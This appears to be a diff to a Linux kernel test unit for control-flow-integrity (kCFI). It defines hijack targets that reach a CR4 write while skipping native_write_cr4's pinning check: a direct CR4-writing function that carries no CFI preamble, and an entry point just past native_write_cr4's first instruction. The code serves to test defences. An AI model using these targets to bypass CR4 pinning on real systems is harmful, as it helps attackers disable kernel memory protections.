@@ -10,33 +10,40 @@
 #include <linux/kernel.h>
 #include <linux/sched.h>
 #include <linux/string.h>
+#include <asm/special_insns.h>
 #include "th_unit.h"
 
 /*
- * A function of the call site's own type whose address is never taken: as
- * built in, clang gives a static function that is never address-taken no
- * kCFI preamble (its callers are all direct). __used keeps it in the image.
+ * func:not-address-taken: the model's write_cr4_direct on 6.1. A function
+ * of the legacy callback's type whose address is never taken: built in,
+ * clang gives a static function that is never address-taken no kCFI
+ * preamble (all its callers are direct). __used keeps it in the image.
  */
-static noinline __used void th_never_referenced(struct timer_list *t)
+static noinline __used void th_write_cr4_direct(unsigned long val)
 {
-	WRITE_ONCE(t->flags, t->flags);
-	barrier();
+	native_write_cr4(val);
 }
 
 /*
- * func:mid-function: inside native_write_cr4(), at its `mov %reg,%cr4`
- * (0f 22 /r with reg = 4; a REX prefix before it for r8-r15), past the
- * function's entry and any check that precedes the write.
+ * func:mid-function: native_write_cr4() past its first instruction, as the
+ * model enters write_cr4. On 6.1 (arch/x86/kernel/cpu/common.c) that
+ * instruction is the `mov %reg,%cr4` itself (0f 22 /r, reg = 4, a REX
+ * prefix for r8-r15), so the target is the pinning check after it. Only the
+ * first instructions this unit can size are accepted: the mov, endbr64,
+ * push %rbp; anything else is "TARGET missing", never a guess.
  */
-static unsigned long th_mov_to_cr4(unsigned long fn)
+static unsigned long th_past_first_insn(unsigned long fn)
 {
 	const u8 *p = (const u8 *)fn;
-	int i;
+	int rex = (p[0] & 0xf0) == 0x40;
 
-	for (i = 0; i < 64; i++) {
-		if (p[i] == 0x0f && p[i + 1] == 0x22 && (p[i + 2] & 0x38) == 0x20)
-			return fn + i - (i > 0 && (p[i - 1] & 0xf0) == 0x40);
-	}
+	if (p[rex] == 0x0f && p[rex + 1] == 0x22 && (p[rex + 2] & 0x38) == 0x20 &&
+	    (p[rex + 2] & 0xc0) == 0xc0)
+		return fn + rex + 3;
+	if (p[0] == 0xf3 && p[1] == 0x0f && p[2] == 0x1e && p[3] == 0xfa)
+		return fn + 4;
+	if (p[0] == 0x55)
+		return fn + 1;
 	return 0;
 }
 
@@ -61,13 +68,13 @@ int th_func_payload(const char *payload, struct th_victim *v, struct th_image *i
 			img->writes_after = true;
 		}
 	} else if (!strcmp(payload, "func:not-address-taken")) {
-		name = "th_never_referenced";
+		name = "th_write_cr4_direct";
 		target = kallsyms_lookup_name(name);
 	} else if (!strcmp(payload, "func:mid-function")) {
 		unsigned long fn = kallsyms_lookup_name("native_write_cr4");
 
-		name = "native_write_cr4's mov to CR4";
-		target = fn ? th_mov_to_cr4(fn) : 0;
+		name = "native_write_cr4 past its first instruction";
+		target = fn ? th_past_first_insn(fn) : 0;
 	} else {
 		return -EINVAL;
 	}
